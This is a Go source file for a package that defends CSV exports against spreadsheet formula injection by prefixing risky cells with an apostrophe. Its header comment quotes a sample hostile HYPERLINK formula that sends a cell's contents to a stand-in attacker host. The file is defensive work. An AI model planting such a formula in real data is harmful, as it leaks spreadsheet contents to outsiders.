// Package csvsafe writes CSV that a spreadsheet program opens as data:
// every CSV the service writes (the console's dashboard exports, the LIVES
// export) goes through it, so that a shop name such as
// =HYPERLINK("http://evil.example/?x="&A1,"点击查看") typed into a public
// complaint is shown as text, never run as a formula (CSV injection,
// OWASP). One home, so no export can forget.
package csvsafe

import (
	"encoding/csv"
	"io"
	"strconv"
)

// Cell neutralises one cell: a cell that starts with =, +, -, @, a tab or
// a carriage return is what Excel, LibreOffice and Google Sheets read as a
// formula (or, for tab and CR, skip to one), so it gets a leading
// apostrophe, which spreadsheets show as text and do not display. A plain
// number (-3.5, +86) is left alone: it cannot be a formula, and columns of
// figures stay figures.
func Cell(s string) string {
	if s == "" {
		return s
	}
	switch s[0] {
	case '=', '+', '-', '@', '\t', '\r':
		if _, err := strconv.ParseFloat(s, 64); err == nil {
			return s
		}
		return "'" + s
	}
	return s
}

// Writer is a csv.Writer whose every cell goes through Cell.
type Writer struct {
	*csv.Writer
	buf []string
}

// NewWriter returns a Writer to w.
func NewWriter(w io.Writer) *Writer { return &Writer{Writer: csv.NewWriter(w)} }

// Write writes one record, each cell neutralised; rec is not modified.
func (w *Writer) Write(rec []string) error {
	w.buf = w.buf[:0]
	for _, c := range rec {
		w.buf = append(w.buf, Cell(c))
	}
	return w.Writer.Write(w.buf)
}

// WriteAll writes records, each cell neutralised, and flushes.
func (w *Writer) WriteAll(records [][]string) error {
	for _, r := range records {
		if err := w.Write(r); err != nil {
			return err
		}
	}
	w.Flush()
	return w.Error()
}
